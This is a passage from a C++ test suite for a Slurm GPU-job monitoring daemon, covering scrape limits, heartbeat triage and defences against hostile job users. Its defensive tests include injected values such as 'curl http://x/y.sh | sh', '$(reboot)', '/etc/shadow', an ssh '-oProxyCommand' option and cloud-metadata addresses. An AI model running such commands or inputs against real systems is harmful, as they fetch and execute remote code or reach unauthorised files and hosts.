            // test check the count before this thread runs again.
            ++answered_;
            (void)!write(it->fd, answer.data(), answer.size());
          }
          close(it->fd);
          it = clients.erase(it);
        } else {
          ++it;
        }
      }
      std::this_thread::sleep_for(std::chrono::milliseconds(1));
    }
    for (auto& c : clients) close(c.fd);
  }
  int listener_ = -1;
  std::string target_;
  std::thread thread_;
  std::atomic<bool> stop_{false};
  std::atomic<size_t> most_open_{0}, answered_{0};
};

TEST(Scrape, AtMostTheConcurrencyCapInFlightAndEveryTargetAnswered) {
  CountingServer server;
  std::vector<ScrapeTarget> targets;
  for (int i = 0; i < 40; ++i) targets.push_back({"node" + std::to_string(i), server.target()});
  auto results = ScrapeAll(targets, 5, kMaxScrapeBody, /*max_parallel=*/3);
  ASSERT_EQ(results.size(), 40u);
  for (const auto& r : results) {
    EXPECT_TRUE(r.ok) << r.error;
    EXPECT_EQ(r.body, "up 1\n\n");
  }
  EXPECT_EQ(server.answered(), 40u);
  EXPECT_LE(server.most_open(), 3u);
  EXPECT_GE(server.most_open(), 2u) << "the cap is used, not one at a time";
}

TEST(Scrape, WithoutACapEveryTargetIsInFlightAtOnce) {
  CountingServer server;
  std::vector<ScrapeTarget> targets;
  for (int i = 0; i < 40; ++i) targets.push_back({"node" + std::to_string(i), server.target()});
  auto results = ScrapeAll(targets, 5);
  for (const auto& r : results) EXPECT_TRUE(r.ok) << r.error;
  EXPECT_GT(server.most_open(), 3u);
}

// In a child: the limits it sets are the process's own.
TEST(Scrape, TheCapFitsTheOpenFileLimitRaisingTheSoftLimitFirst) {
  auto in_child = [](rlim_t soft, rlim_t hard, int wanted, size_t logs = 0) {
    int out[2];
    EXPECT_EQ(pipe(out), 0);
    pid_t pid = fork();
    if (pid == 0) {
      rlimit limit{soft, hard};
      setrlimit(RLIMIT_NOFILE, &limit);
      FittedConcurrency fitted = FitScrapeConcurrency(wanted, logs);
      (void)!write(out[1], &fitted, sizeof fitted);
      _exit(0);
    }
    close(out[1]);
    FittedConcurrency fitted;
    EXPECT_EQ(read(out[0], &fitted, sizeof fitted), static_cast<ssize_t>(sizeof fitted));
    close(out[0]);
    waitpid(pid, nullptr, 0);
    return fitted;
  };
  auto raised = in_child(300, 4096, 1000);
  EXPECT_EQ(raised.concurrency, 1000) << "the soft limit was raised to fit";
  EXPECT_EQ(raised.open_file_limit, 1256) << "and no further";
  auto capped = in_child(300, 600, 1000);
  EXPECT_EQ(capped.concurrency, 344) << "the hard limit less the descriptors kept for the rest";
  EXPECT_EQ(capped.open_file_limit, 600);
  auto small = in_child(64, 64, 1000);
  EXPECT_EQ(small.concurrency, 32) << "a small limit: half of it";
  auto enough = in_child(8192, 8192, 1000);
  EXPECT_EQ(enough.concurrency, 1000);
  EXPECT_EQ(enough.open_file_limit, 8192) << "never lowered";
  EXPECT_EQ(enough.kept_logs, 0u) << "none wanted";
  // Logs kept open between polls come after the scrapes.
  auto logs = in_child(300, 20000, 1000, 10000);
  EXPECT_EQ(logs.concurrency, 1000);
  EXPECT_EQ(logs.kept_logs, 10000u);
  EXPECT_EQ(logs.open_file_limit, 11256) << "raised for both, and no further";
  auto few = in_child(300, 2000, 1000, 10000);
  EXPECT_EQ(few.concurrency, 1000) << "scrapes first";
  EXPECT_EQ(few.kept_logs, 744u) << "then what is left";
}

StallEvidence Window(const std::string& host, bool up, double watts) {
  StallEvidence e;
  HostEvidence h;
  h.host = host;
  h.exporter_up = up;
  h.gpu_power = {watts, watts};
  h.gpu_utilization = {97, 96};
  h.baseline_power = 700;
  e.hosts.push_back(h);
  return e;
}

TEST(HeartbeatVerdict, SystemEvidenceDecidesAndTheChecklistIsQuoted) {
  triage::HeartbeatChecklist checklist;
  checklist.verdict = "likely-false-positive";
  checklist.reasons = {"1 of 1 accused task(s) logged their own death: they were alive"};
  HeartbeatInput in;
  in.checklist = checklist;
  in.accused_hosts = {"node2"};
  in.timeout = 10;
  in.at_silence = Window("node2", true, 690);
  in.at_accusation = Window("node2", true, 680);
  HeartbeatVerdict fp = ClassifyHeartbeat(in);
  EXPECT_EQ(fp.klass, "heartbeat/false-positive");
  EXPECT_TRUE(fp.decided_by_system_evidence);
  ASSERT_FALSE(fp.evidence.empty());
  EXPECT_NE(fp.evidence[0].find("node2 at accusation - timeout (10s earlier): exporter up"),
            std::string::npos);
  // Scraped sparsely before the accusation (scrape_cadence.h), the window
  // kept no utilization then: unknown, never "0%".
  in.at_silence->hosts[0].gpu_utilization.clear();
  const HeartbeatVerdict sparse = ClassifyHeartbeat(in);
  EXPECT_EQ(sparse.klass, "heartbeat/false-positive");
  EXPECT_NE(sparse.evidence[0].find("(10s earlier): exporter up, power 690 W (99% of its"),
            std::string::npos)
      << sparse.evidence[0];
  in.at_accusation = Window("node2", false, 0);  // gone when accused: a real death
  EXPECT_EQ(ClassifyHeartbeat(in).klass, "heartbeat/true-positive");
  // NVIDIA: the node answers and its GPUs idle at 121 W, but NVML lists no
  // process of the job on them: the accused rank died.
  in.at_accusation = Window("node2", true, 121);
  in.at_accusation->hosts[0].job_gpu_processes = 0;
  HeartbeatVerdict gone = ClassifyHeartbeat(in);
  EXPECT_EQ(gone.klass, "heartbeat/true-positive");
  bool said = false;
  for (const auto& line : gone.evidence) said |= line.find("no process of the job") != line.npos;
  EXPECT_TRUE(said);
  in.at_accusation->hosts[0].job_gpu_processes = 1;
  EXPECT_EQ(ClassifyHeartbeat(in).klass, "heartbeat/false-positive") << "121 W with its process";
  in.at_silence.reset();
  in.at_accusation.reset();  // a log-only job: the checklist decides
  HeartbeatVerdict log_only = ClassifyHeartbeat(in);
  EXPECT_EQ(log_only.klass, "heartbeat/false-positive");
  EXPECT_FALSE(log_only.decided_by_system_evidence);
  in.checklist->verdict = "undetermined";
  EXPECT_EQ(ClassifyHeartbeat(in).klass, "heartbeat/true-positive");
}

TEST(StateStoreSchema, MigratesAVersion1Database) {
  TempDir dir;
  const std::string path = dir.path() + "/v1.db";
  sqlite3* db = nullptr;
  ASSERT_EQ(sqlite3_open(path.c_str(), &db), SQLITE_OK);
  const char* v1 = R"sql(
CREATE TABLE jobs (job_id INTEGER PRIMARY KEY, name TEXT NOT NULL DEFAULT '',
  user TEXT NOT NULL DEFAULT '', log_path TEXT NOT NULL DEFAULT '',
  diag_dir TEXT NOT NULL DEFAULT '', source TEXT NOT NULL DEFAULT '',
  slurm_state TEXT NOT NULL DEFAULT '', first_seen REAL NOT NULL, last_seen REAL NOT NULL,
  ended_at REAL);
CREATE TABLE progress (job_id INTEGER PRIMARY KEY REFERENCES jobs(job_id),
  log_inode INTEGER NOT NULL, log_device INTEGER NOT NULL, log_offset INTEGER NOT NULL,
  last_step INTEGER, last_step_time REAL, phase TEXT NOT NULL, median_interval REAL,
  p99_interval REAL, checkpoint_period INTEGER, longest_checkpoint_pause REAL,
  updated_at REAL NOT NULL);
INSERT INTO jobs (job_id, name, first_seen, last_seen) VALUES (5, 'old', 1, 2);
PRAGMA user_version = 1;)sql";
  ASSERT_EQ(sqlite3_exec(db, v1, nullptr, nullptr, nullptr), SQLITE_OK);
  sqlite3_close(db);
  auto store = StateStore::Open(path);
  ASSERT_TRUE(store.ok()) << store.error().message;
  auto job = (*store)->GetJob(5).value();
  ASSERT_TRUE(job);
  EXPECT_EQ(job->name, "old");
  EXPECT_EQ(job->final_status, "");
  EXPECT_TRUE((*store)->AddWatch(9, 1).ok());
  store.value().reset();
  auto read_only = StateStore::OpenReadOnly(path);
  ASSERT_TRUE(read_only.ok()) << read_only.error().message;
  EXPECT_EQ((*read_only)->Watches().value(), std::vector<uint32_t>{9});
  EXPECT_FALSE((*read_only)->GetJob(5).value()->uid) << "an old row has no owner until Slurm says";
}

TEST(EventLog, LogfmtQuotesWhatNeedsIt) {
  EXPECT_EQ(
      RenderLogfmt("incident_opened",
                   {{"job", "7"}, {"summary", "no step for 8s"}, {"empty", ""}, {"q", "a\"b\nc"}}),
      "incident_opened job=7 summary=\"no step for 8s\" empty=\"\" q=\"a\\\"b\\nc\"");
}

// ------------------------------------------------------------------ the job's user
// Everything below is what a job's user can put where the daemon reads.

double Seconds(std::chrono::steady_clock::time_point since) {
  return std::chrono::duration<double>(std::chrono::steady_clock::now() - since).count();
}

size_t Count(const RecordingLog& log, const std::string& text) {
  size_t n = 0;
  for (const auto& l : log.lines) n += l.find(text) != std::string::npos;
  return n;
}

// A second, well-behaved job next to the hostile one must keep being followed.
class HostileJobTest : public MonitorTest {
 protected:
  void SetUp() override {
    MonitorTest::SetUp();
    chmod(dir.path().c_str(), 0755);  // the job user (nobody, below) may traverse it
    hostile_log = dir.path() + "/hostile.out";
  }
  void AddHostile(uid_t uid = 0) {
    SlurmJob j = Job(9, hostile_log);
    j.uid = uid;
    j.gid = uid;
    source.jobs.push_back(j);
  }
  // Cycles while job 7 trains; each cycle must be quick.
  void TrainBounded(int64_t from, int64_t to) {
    for (int64_t s = from; s <= to; ++s) {
      Append(log_path, Step(s));
      auto started = std::chrono::steady_clock::now();
      monitor->Cycle(now += 1);
      ASSERT_LT(Seconds(started), 1.5) << "cycle " << s << " blocked or spun";
    }
    EXPECT_EQ(store->GetProgress(7).value()->last_step, to) << "the other job is still followed";
  }
  std::string hostile_log;
};

TEST_F(HostileJobTest, FifoLogNeitherBlocksNorRepeatsItsWarning) {
  ASSERT_EQ(mkfifo(hostile_log.c_str(), 0644), 0);
  AddHostile();
  TrainBounded(0, 10);
  EXPECT_EQ(Count(log, "log_unreadable job=9"), 1u) << "logged once, not every cycle";
  EXPECT_TRUE(log.Has("FIFO"));
  source.jobs.back().state = "FAILED";  // the end-of-job triage opens it too
  TrainBounded(11, 12);
  EXPECT_TRUE(store->GetJob(9).value()->ended_at);
}

TEST_F(HostileJobTest, DevZeroLogIsRefused) {
  ASSERT_EQ(symlink("/dev/zero", hostile_log.c_str()), 0);
  AddHostile();
  TrainBounded(0, 10);
  EXPECT_EQ(Count(log, "log_unreadable job=9"), 1u);
  // The device itself, reached through a directory symlink (not a last-component link).
  const std::string devdir = dir.path() + "/dev";
  ASSERT_EQ(symlink("/dev", devdir.c_str()), 0);
  source.jobs.back().std_out = devdir + "/zero";
  source.jobs.back().job_id = 10;
  TrainBounded(11, 15);
  EXPECT_EQ(Count(log, "log_unreadable job=10"), 1u);
  EXPECT_TRUE(log.Has("character device"));
  source.jobs.back().state = "FAILED";  // the end-of-job triage must not read it forever
  TrainBounded(16, 17);
  EXPECT_TRUE(store->GetJob(10).value()->ended_at);
}

TEST_F(HostileJobTest, LogLinkedToARootOnlyFileIsNotReadAsRoot) {
  const std::string secret = dir.path() + "/root-only";
  std::ofstream(secret) << "0: completed step: 999, seconds: 1.0\n0: SECRET-LINE\n";
  chmod(secret.c_str(), 0600);
  ASSERT_EQ(symlink(secret.c_str(), hostile_log.c_str()), 0);
  AddHostile(65534);
  // And a second job whose log is the root-only file itself (no symlink:
  // e.g. a hard link), for a user that may not read it.
  SlurmJob direct = Job(10, secret);
  direct.uid = direct.gid = 65534;
  source.jobs.push_back(direct);
  TrainBounded(0, 10);
  for (uint32_t id : {9u, 10u}) {
    auto progress = store->GetProgress(id).value();
    EXPECT_TRUE(!progress || !progress->last_step) << "job " << id << " read the secret";
  }
  EXPECT_TRUE(log.Has("log_unreadable job=9"));
  EXPECT_TRUE(log.Has("log_unreadable job=10"));
  // As root: the open as the user fails; as anyone else: the mode bits refuse.
  EXPECT_TRUE(log.Has("Permission denied") || log.Has("not readable by uid 65534"));
  for (const auto& alert : notifier.sent) {
    for (const auto& e : alert.evidence) EXPECT_EQ(e.find("SECRET"), std::string::npos);
  }
}

// A --diag job: manifest.json in jobmon-diag-<id> next to its log.
class HostileDiagTest : public HostileJobTest {
 protected:
  void SetUp() override {
    HostileJobTest::SetUp();
    diag = dir.path() + "/jobmon-diag-9";
    fs::create_directories(diag + "/targets");
    fs::permissions(diag, fs::perms(0755));
    fs::permissions(diag + "/targets", fs::perms(0755));
    Append(hostile_log, "0: starting\n");
  }
  void WriteManifest(const std::string& text) {
    std::ofstream(diag + "/manifest.json", std::ios::trunc) << text;
  }
  std::string diag;
};

TEST_F(HostileDiagTest, FifoManifestAtDiscoveryOrLaterNeverBlocks) {
  ASSERT_EQ(mkfifo((diag + "/manifest.json").c_str(), 0644), 0);
  AddHostile();
  TrainBounded(0, 5);
  auto job = store->GetJob(9).value();
  ASSERT_TRUE(job) << "still followed from its log (partition selected)";
  EXPECT_EQ(job->source, "config") << "a FIFO is no manifest";
  // A job discovered with a manifest that later becomes a FIFO.
  const std::string diag10 = dir.path() + "/jobmon-diag-10";
  fs::create_directories(diag10);
  std::ofstream(diag10 + "/manifest.json") << R"({"prometheus": {"port": 9190}})";
  SlurmJob diag_job = Job(10, dir.path() + "/run-10.out");
  source.jobs.push_back(diag_job);
  TrainBounded(6, 8);
  ASSERT_EQ(store->GetJob(10).value()->source, "manifest");
  fs::remove(diag10 + "/manifest.json");
  ASSERT_EQ(mkfifo((diag10 + "/manifest.json").c_str(), 0644), 0);
  TrainBounded(9, 80);  // the targets are re-read every 60 s at least
  EXPECT_EQ(Count(log, "diag_file_refused job=10"), 1u) << "logged once";
}

TEST_F(HostileDiagTest, TargetFilesLinkedToDevZeroOrHugeOrTooManyAreRefused) {
  WriteManifest(R"({"prometheus": {"port": 9190}})");
  ASSERT_EQ(symlink("/dev/zero", (diag + "/targets/node1.json").c_str()), 0);
  const std::string devdir = dir.path() + "/dev";
  ASSERT_EQ(symlink("/dev", devdir.c_str()), 0);
  fs::create_directories(diag + "/targets/sub");
  // A target file that is the device, reached through a directory symlink.
  ASSERT_EQ(symlink(devdir.c_str(), (diag + "/targets/dev").c_str()), 0);
  {
    std::ofstream big(diag + "/targets/node2.json");
    big << "[" << std::string(kMaxTargetFileBytes, ' ') << "]";
  }
  for (int i = 0; i < 300; ++i) {
    std::ofstream(diag + "/targets/x" + std::to_string(i) + ".json") << "[]";
  }
  AddHostile();
  TrainBounded(0, 10);
  EXPECT_TRUE(log.Has("diag_file_refused job=9"));
  EXPECT_TRUE(log.Has("symlink"));
  EXPECT_TRUE(log.Has("more than 256 target files"));
  EXPECT_TRUE(log.Has("more than 65536"));
  const size_t warned = log.lines.size();
  TrainBounded(11, 20);
  EXPECT_EQ(log.lines.size(), warned) << "refusals are not repeated every cycle";
  auto files = ReadDiagTargets(diag, JobUser{0, 0});
  EXPECT_TRUE(files.targets.empty());
}

IpAddress Ip(const char* text) { return IpAddress::Parse(text).value(); }

// Slurm's NodeAddr of a cluster with node1-3 (node3 is not the job's); the
// daemon runs on 10.0.0.1.
NodeAddresses ClusterNodes() {
  return {{"node1", {Ip("10.0.0.11")}}, {"node2", {Ip("10.0.0.12")}}, {"node3", {Ip("10.0.0.13")}}};
}

// Why CheckTargets refuses `target` alone ("" when it is kept).
std::string WhyRefused(const ScrapeTarget& target, const TargetPolicy& policy) {
  auto checked = CheckTargets({target}, policy);
  return checked.dropped.empty() ? "" : checked.dropped[0];
}

TEST(DiagTargets, HostileTargetListsAreCutDownToTheJobsOwnNodes) {
  TargetPolicy policy = MakeTargetPolicy({}, "node[1-2]", ClusterNodes(), {Ip("10.0.0.1")});
  struct Row {
    ScrapeTarget target;
    std::string why;  // a part of the reason; "" = kept
  };
  const std::vector<Row> rows = {
      {{"node1", "10.0.0.11:9400"}, ""},
      {{"node2", "10.0.0.12:9400"}, ""},
      {{"node2", "metadata.internal:80"}, "not a literal IP:port"},
      {{"node2", "169.254.169.254:80"}, "link-local"},  // cloud metadata
      {{"node2", "8.8.8.8:9400"}, "outside the cluster CIDRs"},
      {{"node2", "172.17.0.2:9400"}, "outside the cluster CIDRs"},  // the docker bridge
      {{"node3", "10.0.0.13:9400"}, "not one of the job's nodes"},  // real, but not the job's
      {{"node9", "10.0.0.19:9400"}, "not one of the job's nodes"},
      {{"node2", "10.0.0.12:9400/admin?x=1"}, "not a literal IP:port"},  // a path
      {{"node2", "user@10.0.0.12:9400"}, "not a literal IP:port"},       // userinfo
      {{"node2", "10.0.0.12:0"}, "not a literal IP:port"},
      {{"node2", "10.0.0.12:65536"}, "not a literal IP:port"},
      {{"node2", "fd00::12:9400"}, "not a literal IP:port"},  // IPv6 without brackets
      // The label is a job node but the address is not Slurm's for it.
      {{"node2", "10.0.0.11:9400"}, "not the address Slurm has for node2 (NodeAddr 10.0.0.12)"},
      {{"node2", "10.0.0.13:22"}, "not the address Slurm has for node2"},    // another node
      {{"node1", "10.0.0.50:5432"}, "not the address Slurm has for node1"},  // no node at all
      {{"node1", "[::ffff:10.0.0.13]:22"}, "not the address Slurm has for node1"},
      {{"node2", "127.0.0.1:9400"}, "loopback"},
      {{"node2", "[::1]:9400"}, "loopback"},
      {{"node2", "0.0.0.0:9400"}, "unspecified"},
      {{"node1", "10.0.0.1:9400"}, "the monitor's own host"},
      {{"node1", "[::ffff:10.0.0.1]:9400"}, "the monitor's own host"},
  };
  std::vector<ScrapeTarget> all;
  for (const Row& row : rows) {
    const std::string why = WhyRefused(row.target, policy);
    if (row.why.empty()) {
      EXPECT_EQ(why, "") << row.target.address;
    } else {
      EXPECT_NE(why.find(row.why), std::string::npos) << row.target.address << ": " << why;
    }
    all.push_back(row.target);
  }
  // Together, with duplicates and 10k extras: still only the two real ones.
  all.push_back({"node2", "10.0.0.12:9401"});  // node2 again
  for (int i = 0; i < 10000; ++i) all.push_back({"node1", "10.0.0.11:" + std::to_string(i)});
  auto checked = CheckTargets(all, policy);
  ASSERT_EQ(checked.kept.size(), 2u);
  EXPECT_EQ(checked.kept[0].address, "10.0.0.11:9400");
  EXPECT_EQ(checked.kept[1].address, "10.0.0.12:9400");
  EXPECT_LE(checked.dropped.size(), 17u) << "the reasons stay bounded too";
  // Loopback is refused even when cluster_cidrs would take it in.
  TargetPolicy wide = MakeTargetPolicy({Cidr::Parse("0.0.0.0/0").value()}, "node1",
                                       {{"node1", {Ip("127.0.0.1")}}}, {});
  EXPECT_NE(WhyRefused({"node1", "127.0.0.1:9400"}, wide).find("loopback"), std::string::npos);
  // Slurm did not answer (or the node's NodeAddr did not resolve): refused.
  TargetPolicy unknown = MakeTargetPolicy({}, "node[1-2]", {}, {});
  EXPECT_NE(WhyRefused({"node1", "10.0.0.11:9400"}, unknown)
                .find("Slurm's address (NodeAddr) of node1 is not known"),
            std::string::npos);
  // Configured CIDRs replace RFC1918; IPv6 in brackets works there.
  TargetPolicy v6 = MakeTargetPolicy({Cidr::Parse("fd00::/8").value()}, "gpu01",
                                     {{"gpu01", {Ip("fd00::1"), Ip("10.0.0.1")}}}, {});
  auto ok = CheckTargets({{"gpu01", "[fd00::1]:9400"}, {"gpu01", "10.0.0.1:9400"}}, v6);
  ASSERT_EQ(ok.kept.size(), 1u);
  EXPECT_EQ(ok.kept[0].address, "[fd00::1]:9400");
  // The scraper itself builds the URL only from a literal address.
  auto results = ScrapeAll({{"n", "example.com:80"}, {"n", "127.0.0.1:1/x"}}, 0.5);
  EXPECT_FALSE(results[0].ok);
  EXPECT_EQ(results[0].error, "not a literal IP:port");
  EXPECT_EQ(results[1].error, "not a literal IP:port");
}

// sinfo-json.json: recorded by tests/fixtures/slurm/record-nodes.sh from the
// dev cluster (Slurm 22.05): node1 10.219.0.11 running a job, node2
// 10.219.0.12 with "NodeAddr=8.8.8.8" in its Comment and Reason, node3 whose
// NodeAddr an admin set to the host name node3.cluster.example.
TEST(SlurmNodes, NodeAddrFromRecordedSinfoJson) {
  std::ifstream in(std::string(JOBMON_SOURCE_DIR) + "/tests/fixtures/slurm/sinfo-json.json");
  std::stringstream text;
  text << in.rdbuf();
  auto answer = slurm::ParseNodesJson(text.str());
  ASSERT_TRUE(answer.ok()) << answer.error().message;
  const auto* nodes = &answer->nodes;
  ASSERT_EQ(nodes->size(), 3u);
  EXPECT_EQ((*nodes)[0].name, "node1");
  EXPECT_EQ((*nodes)[0].address, "10.219.0.11");
  EXPECT_EQ((*nodes)[1].address, "10.219.0.12") << "not the Comment's or Reason's text";
  EXPECT_EQ((*nodes)[2].address, "node3.cluster.example");
  std::vector<std::string> asked;
  auto resolve = [&asked](const std::string& name) {
    asked.push_back(name);
    return std::vector<IpAddress>{Ip("10.219.0.13"), Ip("::ffff:10.219.0.13")};
  };
  NodeAddresses known = slurm::ResolveNodeAddresses(*nodes, resolve);
  EXPECT_EQ(asked, std::vector<std::string>{"node3.cluster.example"}) << "literals not resolved";
  EXPECT_EQ(known["node2"], std::vector<IpAddress>{Ip("10.219.0.12")});
  EXPECT_EQ(known["node3"], std::vector<IpAddress>{Ip("10.219.0.13")}) << "mapped = IPv4, once";
  // A NodeAddr that does not resolve: the node has no address, its targets are refused.
  NodeAddresses unresolved = slurm::ResolveNodeAddresses(
      *nodes, [](const std::string&) { return std::vector<IpAddress>{}; });
  EXPECT_EQ(unresolved.count("node3"), 0u);
  // A job on node[1-2] of that cluster, its user's target list.
  TargetPolicy policy = MakeTargetPolicy({}, "node[1-2]", known, {Ip("10.219.0.1")});
  auto checked = CheckTargets({{"node1", "10.219.0.11:9400"},
                               {"node2", "8.8.8.8:9400"},
                               {"node2", "10.219.0.13:9400"},
                               {"node2", "10.219.0.1:9400"},
                               {"node2", "10.219.0.12:9400"}},
                              policy);
  ASSERT_EQ(checked.kept.size(), 2u);
  EXPECT_EQ(checked.kept[1].address, "10.219.0.12:9400");
  ASSERT_EQ(checked.dropped.size(), 3u);
  EXPECT_NE(checked.dropped[1].find("NodeAddr 10.219.0.12"), std::string::npos);
  EXPECT_NE(checked.dropped[2].find("own host"), std::string::npos);
  for (const char* bad : {"", "[]", "{\"nodes\": 3}", "not json"}) {
    EXPECT_FALSE(slurm::ParseNodesJson(bad).ok()) << bad;
  }
}

// The daemon asks Slurm for the addresses, refuses a target at another
// node's address with a reason in its log, and scrapes nothing when Slurm
// cannot say where the nodes are.
TEST_F(HostileDiagTest, ATargetAtAnotherNodesAddressIsRefusedAndNotScraped) {
  WriteManifest(R"({"prometheus": {"port": 9190}})");
  std::ofstream(diag + "/targets/node1.json")
      << R"([{"targets": ["10.0.0.13:22"], "labels": {"host": "node1"}}])";
  source.nodes_down = true;
  AddHostile();
  TrainBounded(0, 3);
  EXPECT_TRUE(log.Has("slurm_nodes_unknown"));
  EXPECT_TRUE(log.Has("Slurm's address (NodeAddr) of node1 is not known"));
  source.nodes_down = false;
  TrainBounded(4, 10);
  EXPECT_TRUE(log.Has("targets_dropped job=9"));
  EXPECT_TRUE(log.Has("not the address Slurm has for node1 (NodeAddr 10.0.0.11)"));
  EXPECT_TRUE(log.Has("slurm_nodes_known_again"));
  EXPECT_EQ(monitor->stats().scrapes, 0u) << "nothing fetched";
  const int asked = source.node_calls;
  TrainBounded(11, 40);
  EXPECT_LE(source.node_calls, asked + 1) << "sinfo is asked once a minute, not every cycle";
}

TEST(Scrape, AnOversizedBodyIsCutOff) {
  const auto listener = jobmon::test_support::ListenOnLoopback(1);
  ASSERT_GE(listener.fd, 0);
  const int server = listener.fd;
  std::thread answer([server] {
    int client = accept(server, nullptr, nullptr);
    char request[4096];
    (void)!read(client, request, sizeof request);
    const std::string body(3 << 20, '#');  // 3 MiB of comment lines
    const std::string head =
        "HTTP/1.0 200 OK\r\nContent-Length: " + std::to_string(body.size()) + "\r\n\r\n";
    (void)!write(client, head.data(), head.size());
    for (size_t sent = 0; sent < body.size();) {
      ssize_t n = write(client, body.data() + sent, body.size() - sent);
      if (n <= 0) break;
      sent += static_cast<size_t>(n);
    }
    close(client);
  });
  auto results = ScrapeAll({{"node1", listener.Address()}}, 5);
  answer.join();
  close(server);
  ASSERT_EQ(results.size(), 1u);
  EXPECT_FALSE(results[0].ok);
  EXPECT_EQ(results[0].error, "response larger than the limit");
  EXPECT_EQ(kMaxScrapeBody, size_t{2} << 20);
}

TEST(DiagManifest, TheTunnelCommandIsRebuiltNeverCopied) {
  const std::string hostile = R"({
    "schema": "jobmon.manifest/v1", "head_node": "evil; curl x.sh | sh",
    "tunnel_command": "curl http://x/y.sh | sh",
    "prometheus": {"port": 9191, "url": "http://evil/"},
    "state": "running\u001b[2J", "archive": {"path": "/etc/shadow"}})";
  ManifestView view = ManifestFromJson(hostile, "gpu[07-08]", "/d");
  EXPECT_EQ(view.head_node, "gpu07") << "Slurm's first node, not the file's";
  EXPECT_EQ(view.tunnel_command, "ssh -N -L 9191:127.0.0.1:9191 gpu07");
  EXPECT_EQ(view.tunnel_command, TunnelCommand("gpu07", 9191)) << "the plugin's format";
  EXPECT_EQ(view.url, "http://127.0.0.1:9191");
  EXPECT_EQ(view.state, "") << "not a plain word";
  EXPECT_EQ(view.archive_path, "") << "outside the diag dir";
  for (const char* port : {"80", "70000", "\"9190\"", "9190.5", "-1"}) {
    ManifestView bad =
        ManifestFromJson(std::string(R"({"prometheus": {"port": )") + port + "}}", "n1", "/d");
    EXPECT_EQ(bad.tunnel_command, "") << port;
  }
  EXPECT_EQ(ManifestFromJson(R"({"prometheus": {"port": 9190}})", "-oProxyCommand=x", "/d")
                .tunnel_command,
            "")
      << "a node name that is an ssh option";
  EXPECT_EQ(ManifestFromJson(R"({"archive": {"path": "/d/tsdb.tar.zst"}, "state": "archived"})",
                             "n1", "/d")
                .archive_path,
            "/d/tsdb.tar.zst");
  // The live TSDB is shown to be copied by hand: a plain absolute path only.
  EXPECT_EQ(ManifestFromJson(R"({"tsdb_dir": "/var/lib/jobmon/tsdb/n1/42"})", "n1", "/d").tsdb_dir,
            "/var/lib/jobmon/tsdb/n1/42");
  for (const char* bad : {"relative/42", "/var/lib/$(reboot)", "/var/../etc", "/x", "/a/b\n"}) {
    EXPECT_EQ(ManifestFromJson(std::string(R"({"tsdb_dir": ")") + bad + "\"}", "n1", "/d").tsdb_dir,
              "")
        << bad;
  }
}

TEST_F(HostileDiagTest, AlertsCarryTheRebuiltTunnelCommand) {
  WriteManifest(R"({"head_node": "x", "tunnel_command": "curl http://x/y.sh | sh",
                    "prometheus": {"port": 9195}})");
  AddHostile();
  source.jobs = {source.jobs.back()};  // only the --diag job
  for (int64_t s = 0; s <= 40; ++s) {
    Append(hostile_log, Step(s));
    monitor->Cycle(now += 1);
  }
  for (int i = 0; i < 40; ++i) monitor->Cycle(now += 1);
  ASSERT_FALSE(notifier.sent.empty()) << "a stall incident";
  EXPECT_EQ(notifier.sent[0].tunnel_command, "ssh -N -L 9195:127.0.0.1:9195 node1");
}

TEST_F(MonitorTest, EndOfJobScanOfASparseTerabyteIsBounded) {
  Train(0, 20);
  Append(log_path, "0: Traceback (most recent call last):\n0: ValueError: bad batch\n");
  // 10 GiB of holes after the last line, then the end of the job: the
  // follower has read what was written; the triage reads head and tail.
  const auto size = static_cast<off_t>(fs::file_size(log_path));
  ASSERT_EQ(truncate(log_path.c_str(), size + (off_t{10} << 30)), 0);
  Append(log_path, "\n0: Traceback (most recent call last):\n0: ValueError: bad batch\n");
  source.jobs = {Job(7, log_path, "FAILED")};
  auto started = std::chrono::steady_clock::now();
  monitor->Cycle(now += 1);
  EXPECT_LT(Seconds(started), 3) << "a sparse 10 GiB log was read whole";
  auto job = store->GetJob(7).value();
  ASSERT_TRUE(job->ended_at);
  EXPECT_EQ(job->final_class, "python-exception") << "found in the tail";
}

// ------------------------------------------------ restart-proof evidence

// A central store (VictoriaMetrics, store mode) on loopback: job 7's two
// hosts scraped every 5 s from `from`, two GPUs each, training (97%, 700 W)
// until `spin_from`, then spinning in a collective (100%, 280 W). An
// evidence query gets every scrape up to its `time` (the monitor keeps
// those of the range it asked for); a TensorBoard-step query gets none.
class CentralStore {
 public:
  explicit CentralStore(double from) : from_(from) {
    if (listener_.fd >= 0) server_ = std::thread([this] { Serve(); });
  }
  ~CentralStore() {
    if (listener_.fd < 0) return;
    stopping_ = true;
    shutdown(listener_.fd, SHUT_RDWR);
    server_.join();
    close(listener_.fd);
  }
  bool ok() const { return listener_.fd >= 0; }
  std::string url() const { return "http://" + listener_.Address(); }
  std::atomic<double> spin_from{1e18};
  std::atomic<int> tensorboard_queries{0};

 private:
  std::string Answer(const std::string& request) {
    if (request.find("tb_step") != std::string::npos &&
        request.find("hw_gpu_power_watts") == std::string::npos) {
      ++tensorboard_queries;
    }
    std::string result;
    const size_t time_at = request.find("&time=");
    if (request.find("hw_gpu_power_watts") == std::string::npos || time_at == std::string::npos) {
      return R"({"status":"success","data":{"resultType":"matrix","result":[]}})";
    }
    const double until = std::strtod(request.c_str() + time_at + 6, nullptr);
    const double spin = spin_from;
    auto series = [&](const std::string& name, const std::string& host, const std::string& gpu,
                      double training, double spinning) {
      std::string values;
      for (double t = from_; t <= until; t += 5) {
        values += (values.empty() ? "[" : ",[") + std::to_string(t) + ",\"" +
                  std::to_string(t < spin ? training : spinning) + "\"]";
      }
      if (values.empty()) return;
      result += std::string(result.empty() ? "" : ",") + R"({"metric":{"__name__":")" + name +
                R"(","slurm_job_id":"7","cluster":"cluster","user":"root","host":")" + host +
                (gpu.empty() ? "" : R"(","gpu":")" + gpu) + R"("},"values":[)" + values + "]}";
    };
    for (const std::string host : {"node1", "node2"}) {
      series("up", host, "", 1, 1);
      for (const std::string gpu : {"0", "1"}) {
        series("hw_gpu_utilization_percent", host, gpu, 97, 100);
        series("hw_gpu_power_watts", host, gpu, 700, 280);
      }
    }
    return R"({"status":"success","data":{"resultType":"matrix","result":[)" + result + "]}}";
  }
  void Serve() {
    while (!stopping_) {
      const int client = accept(listener_.fd, nullptr, nullptr);
      if (client < 0) continue;  // stopping_ set, or a signal
      jobmon::test_support::SendOk(client, Answer(jobmon::test_support::ReadRequestHead(client)));
      close(client);
    }
  }

  const double from_;
  const jobmon::test_support::LoopbackListener listener_ =
      jobmon::test_support::ListenOnLoopback(16);
  std::atomic<bool> stopping_{false};
  std::thread server_;
};

// The window is in memory, so a daemon restarted after a
